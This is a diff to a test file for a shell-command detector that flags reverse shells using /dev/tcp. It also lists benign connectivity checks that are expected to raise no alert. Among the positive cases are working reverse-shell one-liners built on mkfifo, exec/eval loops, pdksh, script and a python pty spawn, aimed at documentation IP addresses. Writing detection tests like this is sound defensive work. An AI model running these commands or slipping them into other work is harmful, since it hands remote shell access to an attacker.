@@ -165,6 +165,9 @@ def test_dns_a_host_sensor_saw(query, rule):
     "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | cat > /dev/tcp/203.0.113.7/443 < /tmp/f",
     'exec 5<>/dev/tcp/203.0.113.7/443; while :; do read -r c <&5; eval "$c" >&5 2>&5; done',
     "exec 5<>/dev/tcp/203.0.113.7/443\nwhile read line\ndo\n  $line 2>&5 >&5\ndone <&5",
+    "pdksh -i 5<> /dev/tcp/1.2.3.4/4242 0<&5 1>&5 2>&5",
+    "exec 3<>/dev/tcp/1.2.3.4/4242; script -qc /bin/bash /dev/null <&3 >&3 2>&3",
+    "exec 3<>/dev/tcp/1.2.3.4/4242; python3 -c 'import pty;pty.spawn(\"/bin/sh\")' <&3 >&3 2>&3",
 ])
 def test_shell_wired_to_dev_tcp(command):
     assert "reverse_shell_dev_tcp" in alerts(command)
@@ -183,6 +186,16 @@ def test_shell_wired_to_dev_tcp(command):
      set()),
     ("exec 3>&1; until timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done; bash ./migrate.sh >&3 2>&1", set()),
     ("while read svc; do $svc --check; done < list.txt; timeout 1 bash -c '</dev/tcp/localhost/80'", set()),
+    # a loop, a later "$PY", fds saved and restored, a fifo: none wired to a socket outside
+    ("for i in {1..30}; do\n  (exec 3<>/dev/tcp/localhost/5432) 2>/dev/null && break\n  sleep 1\ndone\n"
+     '"$PY" manage.py migrate', set()),
+    ('echo 1 > /dev/tcp/localhost/9000\nwhile read -r cmd; do echo "step: $cmd"; $cmd; done < steps.txt', set()),
+    ("exec 3>&1 4>&2\nexec 1>>/tmp/setup.log 2>&1\nexec 5<>/dev/tcp/localhost/6379\n"
+     "printf 'PING\\r\\n' >&5; read -r resp <&5; exec 5>&-\nexec 1>&3 2>&4", set()),
+    ("mkfifo /tmp/p; bash -c 'echo > /dev/tcp/localhost/8080'", set()),
+    # a connectivity check in a subshell or bash -c keeps nothing open
+    ("bash -c 'exec 3<>/dev/tcp/pypi.org/443' && echo \"internet ok\"", set()),
+    ("(exec 3<>/dev/tcp/github.com/443) 2>/dev/null && echo online", set()),
     # a socket to an outside host, no shell wired to it; kept open by the shell: high
     ("exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", {"dev_tcp_descriptor_kept"}),
     ("echo hi > /dev/udp/203.0.113.7/53", {"dev_tcp_socket_opened"}),
